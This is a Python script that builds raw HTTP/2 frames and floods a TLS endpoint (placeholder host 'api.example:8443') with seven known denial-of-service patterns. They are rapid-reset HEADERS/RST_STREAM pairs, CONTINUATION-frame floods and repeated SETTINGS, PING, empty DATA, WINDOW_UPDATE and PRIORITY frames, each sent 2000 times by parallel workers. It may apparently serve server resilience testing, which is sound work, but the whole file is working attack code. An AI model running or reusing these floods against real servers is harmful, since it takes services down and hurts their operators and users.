import struct

from rows import connect, each, secure, talk


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A literal that no table keeps and nothing compresses."""
    name, value = name.encode(), value.encode()
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)

HEAD = b"".join(field(*pair) for pair in ((":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", "api.example:8443")))
TIMES = 2000


def flood(row, *_):
    connection = secure(connect("api.example", 8443), "api.example", ["h2"])
    assert connection.selected_alpn_protocol() == "h2"
    match row:
        case "rapid-reset":
            bytes_ = b"".join(frame(1, 4, n * 2 + 1, HEAD) + frame(3, 0, n * 2 + 1, bytes(4)) for n in range(TIMES))
        case "continuation":
            bytes_ = frame(1, 1, 1, HEAD) + b"".join(frame(9, 0, 1, field("x-long", "y" * 120) * 8) for _ in range(500))
        case "settings":
            bytes_ = frame(4, 0, 0) * TIMES
        case "ping":
            bytes_ = frame(6, 0, 0, bytes(8)) * TIMES
        case "empty-data":
            bytes_ = frame(1, 4, 1, HEAD) + frame(0, 0, 1) * TIMES
        case "window-update":
            bytes_ = frame(1, 4, 1, HEAD) + frame(8, 0, 0, b"\0\0\0\1") * TIMES
        case "priority":
            bytes_ = frame(2, 0, 1, bytes(5)) * TIMES
    talk(connection, PREFACE + bytes_, 0.4)
    connection.close()


each(flood, workers=2)
